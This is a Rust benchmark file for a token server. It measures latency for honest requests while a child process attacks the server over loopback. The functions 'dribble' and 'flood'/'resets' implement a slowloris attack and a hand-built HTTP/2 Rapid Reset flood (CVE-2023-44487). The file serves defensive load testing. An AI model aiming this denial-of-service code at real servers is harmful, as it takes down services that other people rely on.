//! How long honest requests take while others are in the way: `cargo bench --bench hostile` (S13, S14).
//!
//! Quiet rounds alternate with rounds in which another process keeps 10,000 connections open that send a byte now and then, and with
//! rounds in which it floods the endpoint with HTTP/2 streams that it resets at once, and begins again as soon as it is told to go away. In
//! rounds of two more kinds it does the same to a second such server, a process beside this one: what that takes of the machine, whoever is
//! attacked. The attacker has an address of its own, and in the last kind of rounds that of the honest client, whose connections then wait
//! with its own. An honest client asks for a token two hundred times a second, each over a connection of its own, and checks each answer.
//! Printed is the time from the connect to the end of the answer, of all rounds of a kind. The goal is a 99th percentile within twice that
//! of the quiet rounds; nothing fails where it is missed. Servers, attacker and honest client share the machine, the attacker with the
//! lowest priority. `cargo bench --bench hostile -- slow` measures the kinds alone that have the word in their name.
#![allow(clippy::expect_used, clippy::indexing_slicing, clippy::unwrap_used, reason = "a benchmark ends where something is wrong")]
#![allow(missing_docs, reason = "a binary has no outside")]

mod shipped;

use keywright::{
    ambient,
    domain::{credential::SecretValue, resource::Algorithm},
    server::{Limits, Listener, TlsMode, listen, serve},
};
use std::{
    env,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream},
    process::{Child, Command, Stdio},
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::sleep,
};

/// As in the program that is shipped.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

/// Rounds of each kind.
const ROUNDS: u8 = 6;
/// Honest requests of a round, and the time from one to the next.
const REQUESTS: u32 = 1_000;
const EVERY: Duration = Duration::from_millis(5);
/// Connections that are slow.
const SLOW: usize = 10_000;
/// Connections that flood, and streams of each of their writes.
const FLOODING: usize = 8;
const STREAMS: u32 = 64;
/// What the attacker does and where, for the process that is the attacker.
const ATTACK: &str = "KEYWRIGHT_ATTACK";

#[derive(Clone, Copy, PartialEq, Eq)]
enum Attack {
    Slow,
    Resets,
}

fn main() {
    rlimit::increase_nofile_limit(u64::MAX).unwrap();
    // As in the program that is shipped.
    rustix::thread::disable_transparent_huge_pages(true).unwrap();
    let secret = SecretValue::from_random(&ambient::random());
    let request = shipped::token_request(&secret);
    match env::var(ATTACK).ok().as_deref().map(|order| order.split(' ').collect::<Vec<_>>()).as_deref() {
        Some(["slow", from, address]) => attack(Attack::Slow, from.parse().unwrap(), address.parse().unwrap()),
        Some(["resets", from, address]) => attack(Attack::Resets, from.parse().unwrap(), address.parse().unwrap()),
        Some(_) => another(secret),
        None => {}
    }
    let address = start(secret);
    let (_another, elsewhere) = Beside::start("another");
    let elsewhere = elsewhere.parse().unwrap();
    let flooding = format!("{FLOODING} connections of resets");
    let kinds = [
        ("quiet".to_owned(), None, REQUESTS),
        (format!("{SLOW} slow connections"), Some(("slow", address)), REQUESTS),
        (format!("{SLOW} slow connections, elsewhere"), Some(("slow", elsewhere)), REQUESTS),
        (flooding.clone(), Some(("resets", address)), REQUESTS),
        (format!("{flooding}, elsewhere"), Some(("resets", elsewhere)), REQUESTS),
        (format!("{flooding}, same address"), Some(("resets", address)), REQUESTS / 10),
    ];
    let words: Vec<_> = env::args().skip(1).filter(|argument| !argument.starts_with('-')).collect();
    let is_wanted = |name: &str| words.is_empty() || name == "quiet" || words.iter().any(|word| name.contains(word));
    let mut kinds: Vec<_> = kinds.into_iter().filter(|(name, ..)| is_wanted(name)).map(|kind| (kind, Vec::new())).collect();
    for round in 0..ROUNDS {
        for ((name, attacked, requests), times) in &mut kinds {
            // Of an address that nothing is known of yet, but for that of the honest client.
            let from = Ipv4Addr::new(127, 0, 0, if name.ends_with("same address") { 1 } else { 2 + round });
            let attacker = attacked.map(|(attack, address)| Beside::start(&format!("{attack} {from} {address}")));
            times.extend(honest(address, &request, *requests));
            drop(attacker);
        }
    }
    println!("Honest requests, ES256, plain HTTP, {ROUNDS} rounds of each kind:\n");
    println!("{:<42}{:>10}{:>10}{:>10}{:>10}{:>16}", "", "requests", "median", "p99", "longest", "p99 / quiet p99");
    let quiet = percentile(&mut kinds[0].1, 99);
    for ((name, ..), times) in &mut kinds {
        let [median, p99, longest] = [50, 99, 100].map(|share| percentile(times, share));
        let ratio = p99.as_secs_f64() / quiet.as_secs_f64();
        println!("{name:<42}{:>10}{:>10}{:>10}{:>10}{ratio:>16.2}", times.len(), micros(median), micros(p99), micros(longest));
    }
}

fn percentile(times: &mut [Duration], share: usize) -> Duration {
    times.sort();
    times[(times.len() * share / 100).min(times.len() - 1)]
}

fn micros(time: Duration) -> String {
    format!("{} µs", time.as_micros())
}

/// The endpoint on a runtime of its own.
fn start(secret: SecretValue) -> SocketAddr {
    let (started, address) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build().unwrap();
        runtime.block_on(async {
            let socket = listen(([127, 0, 0, 1], 0).into()).unwrap();
            started.send(socket.local_addr().unwrap()).unwrap();
            let listener = Listener {
                socket,
                tls: TlsMode::Plain,
                limits: Limits::default(),
                proxies: Default::default(),
                metrics: Default::default(),
            };
            serve(listener, shipped::endpoint(Algorithm::Es256, &secret), Default::default()).await;
        });
    });
    address.recv().unwrap()
}

fn honest(address: SocketAddr, request: &[u8], requests: u32) -> Vec<Duration> {
    let start = ambient::boot_time();
    let ask = |number| {
        std::thread::sleep((start + EVERY * number).saturating_sub(ambient::boot_time()));
        let begun = ambient::boot_time();
        let mut stream = TcpStream::connect(address).unwrap();
        stream.write_all(request).unwrap();
        let mut answer = Vec::with_capacity(4096);
        while !answer.ends_with(b"}") {
            let mut octets = [0; 4096];
            let read = stream.read(&mut octets).unwrap();
            assert!(read > 0, "the server closed the connection");
            answer.extend_from_slice(&octets[..read]);
        }
        assert!(answer.starts_with(b"HTTP/1.1 200 "), "{}", String::from_utf8_lossy(&answer));
        ambient::boot_time() - begun
    };
    (0..requests).map(ask).collect()
}

/// A process that attacks, or is attacked, until this is dropped.
struct Beside(Child);

impl Beside {
    /// Returns once it is under way, with the line that says so.
    fn start(order: &str) -> (Self, String) {
        let mut command = Command::new(env::current_exe().unwrap());
        let mut child = command.env(ATTACK, order).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        (Self(child), line.trim().to_owned())
    }
}

impl Drop for Beside {
    fn drop(&mut self) {
        self.0.kill().unwrap();
        self.0.wait().unwrap();
    }
}

/// Ends with the process that started it, whose end closes standard input.
fn end_with_parent() {
    std::thread::spawn(|| {
        let _ = std::io::stdin().read_to_end(&mut Vec::new());
        std::process::exit(0);
    });
}

/// The server beside: never returns.
fn another(secret: SecretValue) -> ! {
    end_with_parent();
    println!("{}", start(secret));
    loop {
        std::thread::park();
    }
}

/// Never returns.
fn attack(attack: Attack, from: IpAddr, address: SocketAddr) -> ! {
    end_with_parent();
    // What an attacker computes, it computes elsewhere.
    rustix::process::nice(19).unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let (opened, mut open) = tokio::sync::mpsc::unbounded_channel();
        let count = if attack == Attack::Slow { SLOW } else { FLOODING };
        for _ in 0..count {
            let opened = opened.clone();
            tokio::spawn(async move {
                loop {
                    // Refused, reset, closed: begin again.
                    match attack {
                        Attack::Slow if dribble(from, address, &opened).await.is_err() => sleep(Duration::from_millis(10)).await,
                        Attack::Slow => {}
                        Attack::Resets => drop(flood(from, address, &opened).await),
                    }
                }
            });
            if attack == Attack::Slow {
                sleep(Duration::from_micros(200)).await;
            }
        }
        for _ in 0..count {
            open.recv().await.unwrap();
        }
        println!("under way");
        std::future::pending().await
    })
}

async fn connect(from: IpAddr, address: SocketAddr) -> std::io::Result<tokio::net::TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4()?;
    socket.bind((from, 0).into())?;
    // Ended by a reset, so that the port is free at once.
    socket.set_zero_linger()?;
    socket.connect(address).await
}

type Opened = tokio::sync::mpsc::UnboundedSender<()>;

/// A head that never ends.
async fn dribble(from: IpAddr, address: SocketAddr, opened: &Opened) -> std::io::Result<()> {
    let mut stream = connect(from, address).await?;
    let _ = opened.send(());
    stream.write_all(b"POST /oauth2/token HTTP/1.1\r\nhost: x\r\nx: ").await?;
    let mut octet = [0];
    loop {
        tokio::select! {
            read = stream.read(&mut octet) => if read? == 0 { return Ok(()) },
            () = sleep(Duration::from_secs(1)) => stream.write_all(b"y").await?,
        }
    }
}

/// RFC 9113 §6.8.
const GOAWAY: u8 = 7;

/// Streams that are reset as soon as they are opened (CVE-2023-44487); of GET http://x/oauth2/jwks.
async fn flood(from: IpAddr, address: SocketAddr, opened: &Opened) -> std::io::Result<()> {
    let mut stream = connect(from, address).await?;
    let _ = opened.send(());
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    let (mut read, mut write) = stream.into_split();
    let told_to_go = async {
        loop {
            let mut head = [0; 9];
            read.read_exact(&mut head).await?;
            let [high, middle, low, kind, ..] = head;
            let payload = u64::from(u32::from_be_bytes([0, high, middle, low]));
            tokio::io::copy(&mut (&mut read).take(payload), &mut tokio::io::sink()).await?;
            if kind == GOAWAY {
                return Ok(());
            }
        }
    };
    let resets = async {
        for first in (1..u32::MAX / 2).step_by(2 * STREAMS as usize) {
            write.write_all(&resets(first)).await?;
        }
        Ok(())
    };
    tokio::select! {
        ended = told_to_go => ended,
        ended = resets => ended,
    }
}

fn resets(first: u32) -> Vec<u8> {
    let get: &[u8] = b"\x82\x86\x04\x0c/oauth2/jwks\x01\x01x";
    let stream = |number: u32| (first + 2 * number).to_be_bytes();
    let length = u8::try_from(get.len()).unwrap();
    let frames = |number| {
        let headers = [&[0, 0, length, 0x1, 0x5], &stream(number)[..], get].concat();
        [headers, [&[0, 0, 4, 0x3, 0][..], &stream(number), &8_u32.to_be_bytes()].concat()].concat()
    };
    (0..STREAMS).flat_map(frames).collect()
}
